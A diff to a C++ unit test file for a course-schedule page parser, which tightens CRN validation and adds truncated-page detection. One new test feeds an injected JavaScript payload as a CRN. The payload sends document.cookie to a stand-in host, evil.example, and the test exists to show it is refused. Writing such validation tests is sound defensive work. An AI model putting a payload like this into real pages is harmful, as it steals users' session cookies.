@@ -44,7 +44,7 @@ TEST(PageCutterTest, AHeaderWithoutRowsHasNoSectionTable) {
 
 TEST(PageCutterTest, BreakTagsOfAnyCaseBecomeSeparatorsButSlashedOnesVanish) {
   const auto sections =
-      CutSchedulePage(SchedulePage({Row("1", "A 1", "T", "X", "MKB<BR>EEB<Br>", "Pazartesi<br/>Salı<br />"_w.data(),
+      CutSchedulePage(SchedulePage({Row("20001", "A 1", "T", "X", "MKB<BR>EEB<Br>", "Pazartesi<br/>Salı<br />"_w.data(),
                                         "0830/1029<bR>", "R1<br>", "TÜM"_w.data())}));
   ASSERT_TRUE(sections && sections->size() == 1);
   EXPECT_EQ((*sections)[0].bina, "MKB|EEB");
@@ -55,7 +55,7 @@ TEST(PageCutterTest, BreakTagsOfAnyCaseBecomeSeparatorsButSlashedOnesVanish) {
 
 TEST(PageCutterTest, CellsKeepCarriageReturnsAndOneOfTwoTrailingBreaks) {
   const auto sections = CutSchedulePage(
-      SchedulePage({Row("1", "A 1", "T", "X", "MKB\r<br>EEB<br>", "Cuma<br><br>", "/<br>", "-", "ELK")}));
+      SchedulePage({Row("20001", "A 1", "T", "X", "MKB\r<br>EEB<br>", "Cuma<br><br>", "/<br>", "-", "ELK")}));
   ASSERT_TRUE(sections && sections->size() == 1);
   EXPECT_EQ((*sections)[0].bina, "MKB\r|EEB");
   EXPECT_EQ((*sections)[0].gun, "Cuma|");
@@ -64,38 +64,39 @@ TEST(PageCutterTest, CellsKeepCarriageReturnsAndOneOfTwoTrailingBreaks) {
 }
 
 TEST(PageCutterTest, ALineFeedInsideABreakTagIsRemovedFirst) {
-  const auto sections =
-      CutSchedulePage(SchedulePage({Row("1", "A 1", "T", "X", "MKB<b\nr>EEB<br\n>", "PA", "0830/0929", "-", "ELK")}));
+  const auto sections = CutSchedulePage(
+      SchedulePage({Row("20001", "A 1", "T", "X", "MKB<b\nr>EEB<br\n>", "PA", "0830/0929", "-", "ELK")}));
   ASSERT_TRUE(sections && sections->size() == 1);
   EXPECT_EQ((*sections)[0].bina, "MKB|EEB");
 }
 
 TEST(PageCutterTest, ThreeMeetingsGiveTwentyNineTimeCharacters) {
-  const auto sections = CutSchedulePage(SchedulePage({Row("1", "A", "T", "X", "A<br>B<br>C<br>", "PA<br>SA<br>CU<br>",
-                                                          "0830/1029<br>1030/1229<br>1330/1529<br>", "-", "ELK")}));
+  const auto sections =
+      CutSchedulePage(SchedulePage({Row("20001", "A", "T", "X", "A<br>B<br>C<br>", "PA<br>SA<br>CU<br>",
+                                        "0830/1029<br>1030/1229<br>1330/1529<br>", "-", "ELK")}));
   ASSERT_TRUE(sections && sections->size() == 1);
   EXPECT_EQ((*sections)[0].saat.size(), 29u);
   EXPECT_EQ((*sections)[0].blok, 3);
 }
 
 TEST(PageCutterTest, RowsStopAtTheFooterMarkerOrAnIncompleteRow) {
-  std::vector<std::vector<std::string>> rows = {Row("1", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK"),
-                                                Row("2", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK"),
+  std::vector<std::vector<std::string>> rows = {Row("20001", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK"),
+                                                Row("20002", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK"),
                                                 Row("<br><br>Son", "x", "x", "x", "x", "x", "x", "x", "x"),
-                                                Row("3", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK")};
+                                                Row("20003", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK")};
   auto sections = CutSchedulePage(SchedulePage(rows));
   ASSERT_TRUE(sections.has_value());
   EXPECT_EQ(sections->size(), 2u);  // "||S" ends the table
 
   // A last row with cells up to 12 counts; one without cell 12 does not.
-  std::string page = SchedulePage({Row("1", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK")});
+  std::string page = SchedulePage({Row("20001", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK")});
   std::string thirteen = page.substr(0, page.find("</table>"));
-  for (int k = 0; k < 13; ++k) thirteen += "<td>" + std::to_string(k == 0 ? 7 : k) + "</td>";
+  for (int k = 0; k < 13; ++k) thirteen += "<td>" + std::to_string(k == 0 ? 20007 : k) + "</td>";
   sections = CutSchedulePage(thirteen);
   ASSERT_TRUE(sections.has_value());
   EXPECT_EQ(sections->size(), 2u);
   std::string twelve = page.substr(0, page.find("</table>"));
-  for (int k = 0; k < 12; ++k) twelve += "<td>" + std::to_string(k) + "</td>";
+  for (int k = 0; k < 12; ++k) twelve += "<td>" + std::to_string(k == 0 ? 20007 : k) + "</td>";
   sections = CutSchedulePage(twelve);
   EXPECT_EQ(sections->size(), 1u);
 }
@@ -103,19 +104,69 @@ TEST(PageCutterTest, RowsStopAtTheFooterMarkerOrAnIncompleteRow) {
 TEST(PageCutterTest, TextBeforeTheFirstCrnIsDropped) {
   // The header's "CRN" is found first; a "C" in the head is not.
   std::string page =
-      "<td>Cok</td><td>bozuk</td>" + SchedulePage({Row("1", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK")});
+      "<td>Cok</td><td>bozuk</td>" + SchedulePage({Row("20001", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK")});
   const auto sections = CutSchedulePage(page);
   ASSERT_TRUE(sections && sections->size() == 1);
-  EXPECT_EQ((*sections)[0].crn, "1");
+  EXPECT_EQ((*sections)[0].crn, "20001");
 }
 
 TEST(PageCutterTest, ApostrophesAndTurkishBytesPassUnchanged) {
   const std::string title = std::string("Mühendis'in Şövalyesi"_w);
-  const auto sections = CutSchedulePage(SchedulePage({Row("1", "A 1", title, "---", "", "", "", "", "TÜM"_w.data())}));
+  const auto sections =
+      CutSchedulePage(SchedulePage({Row("20001", "A 1", title, "---", "", "", "", "", "TÜM"_w.data())}));
   ASSERT_TRUE(sections && sections->size() == 1);
   EXPECT_EQ((*sections)[0].ders_adi, title);
   EXPECT_EQ((*sections)[0].alabilenler, std::string("TÜM"_w));
   EXPECT_EQ((*sections)[0].blok, 0);
+}
+
+// A CRN goes into the add/drop script: a row whose CRN is anything but five
+// digits is no section, and the rest of the department stays.
+TEST(PageCutterTest, ARowWhoseCrnIsNotFiveDigitsIsRefusedAndCounted) {
+  const auto row = [](const std::string& crn) { return Row(crn, "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK"); };
+  const auto table = CutSectionTable(
+      SchedulePage({row("20001"), row("1,fetch('https://evil.example/?c='+document.cookie)"), row("2000"),
+                    row("200011"), row("2000a"), row(""), row("<b>20002</b>"), row(" 20003 "), row("20 004"),
+                    row("2\xB2"
+                        "005")}));
+  ASSERT_TRUE(table.has_value());
+  std::vector<std::string> crns;
+  for (const auto& section : table->sections) crns.push_back(section.crn);
+  EXPECT_EQ(crns, (std::vector<std::string>{"20001", "20002", "20003"}));
+  EXPECT_EQ(table->refused_rows, 7);
+  EXPECT_EQ(CutSchedulePage(SchedulePage({row("20001"), row("x")}))->size(), 1u);
+  for (const char* crn : {"00000", "99999", "21345"}) EXPECT_TRUE(IsCrn(crn)) << crn;
+  for (const char* crn : {"", "1234", "123456", "1234 ", "12a45", "-1234"}) EXPECT_FALSE(IsCrn(crn)) << crn;
+}
+
+// A page whose body stops inside the table (sent half, with a length that
+// says it is whole) is told from a whole one by what follows its last cell,
+// however few cells are left.
+TEST(PageCutterTest, APageThatDoesNotEndAfterItsTableIsCutOff) {
+  std::vector<std::vector<std::string>> rows;
+  for (int k = 0; k < 20; ++k) {
+    rows.push_back(Row(std::to_string(20000 + k), "A 1", "T", "X", "B", "PA", "0830/0929", "-", "E"));
+  }
+  const std::string page = SchedulePage(rows);
+  const std::string one_row = SchedulePage({rows[0]});
+  const struct {
+    const char* what;
+    std::string page;
+    bool cut_off;
+  } cases[] = {
+      {"a whole page", page, false},
+      {"a page without rows", SchedulePage({}), false},
+      {"a page without a table", "<html><body>Bak</body></html>", false},
+      {"nothing", "", false},
+      {"half the page", page.substr(0, page.size() / 2), true},
+      {"half a page of one row", one_row.substr(0, one_row.size() / 2), true},
+      {"the header alone", one_row.substr(0, one_row.find("CRN") + 20), true},
+      {"all but the end of the page", page.substr(0, page.find("</body>")), true},
+      {"the table's end without the page's", page.substr(0, page.find("</table>") + 8), true},
+      {"upper-case closing tags", page.substr(0, page.find("</table>")) + "</TABLE></BODY></HTML>", false},
+      {"a page's end before the table's", page.substr(0, page.find("</table>")) + "</html></table>", true},
+  };
+  for (const auto& c : cases) EXPECT_EQ(PageCutOff(c.page), c.cut_off) << c.what;
 }
 
 TEST(PageCutterTest, CleanCellFollowsItsThreeSteps) {
